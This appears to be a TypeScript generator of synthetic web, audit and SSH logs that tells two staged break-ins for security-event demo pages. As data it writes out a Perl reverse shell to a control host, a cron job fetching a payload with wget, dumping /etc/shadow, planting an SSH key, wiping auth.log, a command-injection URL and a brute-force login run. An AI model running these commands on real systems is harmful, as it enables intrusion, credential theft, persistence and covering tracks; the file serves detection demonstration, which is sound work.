// Two break-ins as the logs of two hosts tell them, so that the pages about an event have something to show: a web shell
// and all that follows on one host, a password guessed from elsewhere on the other.

export interface Line {
  product: string;
  log: string;
}

/** Whom it happens to; everything a second telling has to have for itself. */
export interface Cast {
  web: string;
  database: string;
  attacker: string;
  /** Where the password is guessed from. */
  guesser: string;
  /** Where the shells call. */
  control: string;
}

interface Process {
  pid: number;
  name: string;
  path: string;
  user: string;
  /** Seconds after the beginning. */
  born: number;
}

const SECOND = 1000;

/** Everything that happens, in order; `start` in milliseconds. */
export function breakIn(cast: Cast, start: number): Line[] {
  return [...intoTheWebServer(cast, start), ...intoTheDatabase(cast, start + 900 * SECOND)];
}

function intoTheWebServer({ web, attacker, control }: Cast, start: number): Line[] {
  const fpm: Process = { pid: 1411, name: "php-fpm8.2", path: "/usr/sbin/php-fpm8.2", user: "www-data", born: -3600 };
  const shell: Process = { pid: 2210, name: "sh", path: "/usr/bin/dash", user: "www-data", born: 190 };
  const perl: Process = { pid: 2211, name: "perl", path: "/usr/bin/perl", user: "www-data", born: 191 };
  const bash: Process = { pid: 2212, name: "bash", path: "/usr/bin/bash", user: "www-data", born: 192 };
  const audit = auditOf(web, start);
  const asked = (at: number, method: string, uri: string, status: number, agent = "Mozilla/5.0") =>
    access(web, attacker, start + at * SECOND, method, uri, status, agent);
  return [
    ...["/.env", "/.git/config", "/backup.sql", "/phpinfo.php"].map((uri, index) => asked(index, "GET", uri, 404)),
    asked(20, "GET", "/item.php?id=1", 200, "sqlmap/1.8.4#stable"),
    asked(60, "GET", "/ping.php?host=127.0.0.1;cat%20/etc/passwd", 200),
    audit.written(120, fpm, "/var/www/html/uploads/avatar.php"),
    asked(150, "POST", "/uploads/avatar.php", 200),
    audit.started(190, shell, fpm, ["sh", "-c", "perl -e 'use Socket; …; exec(\"/bin/sh -i\")'"]),
    audit.started(191, perl, shell, [
      "perl",
      "-e",
      `use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("${control}")));exec("/bin/sh -i");`,
    ]),
    audit.started(192, bash, perl, ["bash", "-i"]),
    audit.connected(193, bash, control, 4444),
    audit.started(240, act(2230, "python3", 240), bash, ["python3", "-c", 'import pty;pty.spawn("/bin/bash")']),
    audit.started(300, act(2240, "base64", 300), bash, ["base64", "/etc/shadow"]),
    audit.started(360, act(2250, "sh", 360), bash, [
      "sh",
      "-c",
      `echo "* * * * * root wget -q http://${control}/x" > /etc/cron.d/x`,
    ]),
    audit.started(420, act(2260, "sh", 420), bash, ["sh", "-c", "echo ssh-ed25519 AAAAC3Nza k >> /root/.ssh/authorized_keys"]),
    audit.started(480, act(2270, "sh", 480), bash, ["sh", "-c", "cat /dev/null > /var/log/auth.log"]),
  ];
}

function intoTheDatabase({ database, guesser, control }: Cast, start: number): Line[] {
  const login: Process = { pid: 3100, name: "bash", path: "/usr/bin/bash", user: "root", born: 31 };
  const audit = auditOf(database, start);
  const said = (at: number, message: string): Line => ({
    product: "self_hosted/sshd",
    log: `${new Date(start + at * SECOND).toISOString()} ${database} sshd[27163]: ${message}`,
  });
  return [
    ...Array.from({ length: 12 }, (_, at) => said(at, `Failed password for root from ${guesser} port ${54_600 + at} ssh2`)),
    said(30, `Accepted password for root from ${guesser} port 54700 ssh2`),
    audit.started(60, act(3110, "sh", 60, "root"), login, [
      "sh",
      "-c",
      `echo "* * * * * root wget -q http://${control}/x" > /etc/cron.d/x`,
    ]),
    audit.started(90, act(3120, "base64", 90, "root"), login, ["base64", "/etc/shadow"]),
  ];
}

const act = (pid: number, name: string, born: number, user = "www-data"): Process => ({
  pid,
  name,
  path: `/usr/bin/${name}`,
  user,
  born,
});

function access(host: string, client: string, at: number, method: string, uri: string, status: number, agent: string): Line {
  const [path = "", query = ""] = uri.split("?");
  return {
    product: "self_hosted/nginx",
    log: JSON.stringify({
      msec: (at / SECOND).toFixed(3),
      request_id: `${host}-${at}`,
      remote_addr: client,
      remote_port: "39243",
      host: `www.${host}.example.com`,
      server_addr: "192.0.2.10",
      server_port: "443",
      method,
      uri: path,
      args: query,
      protocol: "HTTP/1.1",
      status,
      bytes: 153,
      user_agent: agent,
      hostname: host,
    }),
  };
}

/** What the audit of a host writes down, as LAUREL does. */
function auditOf(host: string, start: number) {
  const time = (at: number) => ((start + at * SECOND) / SECOND).toFixed(3);
  const base = (process: Process, parent?: Process) => ({
    success: "yes",
    ppid: parent?.pid ?? 1,
    pid: process.pid,
    uid: process.user === "root" ? 0 : 33,
    tty: "(none)",
    comm: process.name,
    exe: process.path,
    UID: process.user,
    ARCH: "x86_64",
    ...(parent && { PPID: { EVENT_ID: `${time(parent.born)}:${parent.pid}`, comm: parent.name, exe: parent.path, ppid: 1 } }),
    PID: { EVENT_ID: `${time(process.born)}:${process.pid}` },
  });
  const line = (at: number, what: object): Line => ({
    product: "self_hosted/auditd",
    log: JSON.stringify({ ID: `${time(at)}:${at + 100}`, NODE: host, ...what }),
  });
  return {
    started: (at: number, process: Process, parent: Process, argv: string[]) =>
      line(at, {
        SYSCALL: { ...base(process, parent), syscall: 59, SYSCALL: "execve" },
        EXECVE: { argc: argv.length, ARGV: argv },
        CWD: { cwd: "/var/www" },
      }),
    connected: (at: number, process: Process, addr: string, port: number) =>
      line(at, {
        SYSCALL: { ...base(process), syscall: 42, SYSCALL: "connect" },
        SOCKADDR: [{ SADDR: { saddr_fam: "inet", addr, port } }],
        PROCTITLE: { ARGV: [process.name, "-i"] },
      }),
    written: (at: number, process: Process, path: string) =>
      line(at, {
        SYSCALL: { ...base(process), syscall: 257, SYSCALL: "openat" },
        CWD: { cwd: "/var/www" },
        PATH: [{ item: 0, name: path, nametype: "CREATE" }],
        PROCTITLE: { ARGV: [process.name] },
      }),
  };
}
